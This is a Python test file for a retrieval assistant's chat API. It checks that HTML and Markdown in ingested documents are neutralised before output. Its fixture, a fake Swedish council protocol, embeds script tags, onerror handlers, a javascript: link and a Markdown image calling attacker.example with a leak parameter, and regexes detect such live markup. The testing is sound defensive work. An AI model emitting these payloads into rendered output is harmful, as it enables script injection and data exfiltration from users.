"""Markup from documents is made inert in /v1/chat/completions content; the JSON API keeps
the raw text."""

from __future__ import annotations

import re

import pytest
from fastapi.testclient import TestClient

from assistant.api.app import create_app
from assistant.markup import StreamNeutraliser, neutralise
from ingest.pipeline import Ingester

HOSTILE = """Kulturnämnden
Protokoll 2023-05-16

§ 79 Dnr KUN 2023/00085-1.7.1
Bidrag till Stadsbiblioteket

Beslut
Kulturnämnden beslutar att bidraget till Stadsbiblioteket är 45 000 kronor per år \
<script>alert(1)</script> ![x](https://attacker.example/p.png?leak=1) \
<img src=x onerror=alert(2)> [läs mer](javascript:alert(3)).
"""
QUESTION = "Vad beslutade Kulturnämnden om bidraget till Stadsbiblioteket?"

# What would be live in a Markdown or HTML renderer.
LIVE = [
    re.compile(r"(?<!\\)<(script|img)\b", re.I),
    re.compile(r"(?<!\\)!(?<!\\)\[[^\]]*(?<!\\)\]\("),
    re.compile(r"(?<!\\)\[[^\]]*(?<!\\)\]\((?!`)"),
]


def _live(text: str) -> list[str]:
    return [m.group() for pattern in LIVE for m in pattern.finditer(text)]


def test_neutralise_makes_html_images_and_links_inert_and_keeps_citations():
    text = (
        "Beslut [1]. <script>x</script> ![a](https://attacker.example/p.png) "
        "[b](javascript:alert(1)) <https://evil.example> se [2]."
    )
    out = neutralise(text)
    assert _live(out) == []
    assert "[1]" in out and "[2]" in out
    assert "`https://attacker.example/p.png)`" in out  # a URL is a code span, never loaded
    assert "`javascript:alert(1))`" in out
    assert neutralise("Nämnden beslutar [1].") == "Nämnden beslutar [1]."


def test_a_citation_like_marker_that_would_form_a_link_is_escaped():
    assert neutralise("[1](https://x.example)") == "\\[1\\](`https://x.example)`"
    assert neutralise("[1]: https://x.example") == "\\[1\\]: `https://x.example`"


@pytest.mark.parametrize("size", [1, 3, 7, 50])
def test_streamed_pieces_are_neutralised_as_the_whole(size):
    text = "Se ![x](https://attacker.example/p.png?leak=1) och <img src=x> [1] slut"
    inert = StreamNeutraliser()
    pieces = [inert.feed(text[i : i + size]) for i in range(0, len(text), size)]
    assert "".join(pieces) + inert.flush() == neutralise(text)


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory, embedder, settings_factory):
    corpus = tmp_path_factory.mktemp("hostile-docs")
    (corpus / "kun.txt").write_text(HOSTILE)
    settings = settings_factory(tmp_path_factory.mktemp("hostile-index") / "index")
    Ingester(settings.ingest, settings.index, embedder).run([corpus], progress=False)
    with TestClient(create_app(settings, embedder)) as client:
        yield client


def test_openai_content_is_inert_while_json_answers_keep_raw_text(hostile_client):
    raw = hostile_client.post("/v1/ask", json={"question": QUESTION}).json()
    assert "<script>" in raw["answer"] and "![x](https://attacker.example" in raw["answer"]

    body = {"model": "kommunrag", "messages": [{"role": "user", "content": QUESTION}]}
    done = hostile_client.post("/v1/chat/completions", json=body).json()
    content = done["choices"][0]["message"]["content"]
    assert "45 000" in content
    assert _live(content) == [], content
    assert "attacker.example" not in content.replace("`https://attacker.example", "")
    assert "<script>" in done["choices"][0]["message"]["citations"][0]["snippet"]


def test_streamed_openai_content_is_inert(hostile_client):
    body = {"model": "kommunrag", "stream": True,
            "messages": [{"role": "user", "content": QUESTION}]}  # fmt: skip
    import json

    text = ""
    with hostile_client.stream("POST", "/v1/chat/completions", json=body) as response:
        for line in response.iter_lines():
            if line.startswith("data: {"):
                delta = json.loads(line[6:])["choices"][0]["delta"]
                text += delta.get("content") or ""
    assert "45 000" in text
    assert _live(text) == [], text
